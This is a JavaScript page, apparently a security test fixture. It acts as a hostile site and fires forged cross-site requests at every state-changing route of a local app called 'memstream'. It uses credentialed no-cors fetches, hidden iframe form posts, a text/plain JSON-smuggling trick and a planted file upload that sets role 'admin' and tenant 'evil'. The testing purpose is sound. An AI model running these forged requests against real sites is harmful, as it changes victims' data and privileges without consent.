// Another site's page: every state-changing route of memstream, from every angle.
const {port, routes, bodies, user, marker} = window.CONFIG;
const bases = [`http://127.0.0.1:${port}`, `http://localhost:${port}`];
function formData() {
  const data = new FormData();
  data.append("user_id", user); data.append("content", marker); data.append("tenant", "evil");
  data.append("role", "admin"); data.append("key", "x"); data.append("action_token", "x");
  data.append("file", new File([marker], "planted.md", {type: "text/markdown"}));
  return data;
}
function post(url, enctype) {
  return new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random().toString(36).slice(2);
    document.body.appendChild(frame);
    const form = document.createElement("form");
    form.method = "POST"; form.action = url; form.enctype = enctype; form.target = frame.name;
    const field = (name, value) => {
      const input = document.createElement("input");
      input.name = name; input.value = value; form.appendChild(input);
    };
    // text/plain sends `name=value`: together, a JSON body
    field(bodies.json.slice(0, -2) + ', "x": "', '"}]');
    for (const [name, value] of [["user_id", user], ["content", marker], ["tenant", "evil"],
                                 ["role", "admin"], ["action_token", "x"]]) field(name, value);
    if (enctype === "multipart/form-data") {
      const file = document.createElement("input");
      file.type = "file"; file.name = "file";
      const picked = new DataTransfer();
      picked.items.add(new File([marker], "planted.md", {type: "text/markdown"}));
      file.files = picked.files; form.appendChild(file);
    }
    document.body.appendChild(form);
    frame.onload = () => done();
    setTimeout(done, 3000);
    form.submit();
  });
}
async function attempt(method, url) {
  const tries = [];
  if (method === "POST") {
    for (const body of [bodies.json, bodies.memory]) {
      tries.push(fetch(url, {method, mode: "no-cors", credentials: "include",
                             headers: {"content-type": "text/plain"}, body}));
    }
    tries.push(fetch(url, {method, mode: "no-cors", credentials: "include", body: formData()}));
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded",
                           "multipart/form-data"]) tries.push(post(url, enctype));
  }
  tries.push(fetch(url, {method, mode: "cors", credentials: "include",
                         headers: {"content-type": "application/json"},
                         body: method === "DELETE" ? undefined : bodies.memory}));
  await Promise.allSettled(tries);
}
(async () => {
  const all = [];
  for (const base of bases) {
    for (const [method, path] of routes) all.push(attempt(method, base + path));
  }
  await Promise.allSettled(all);
  window.__done = true;
})();
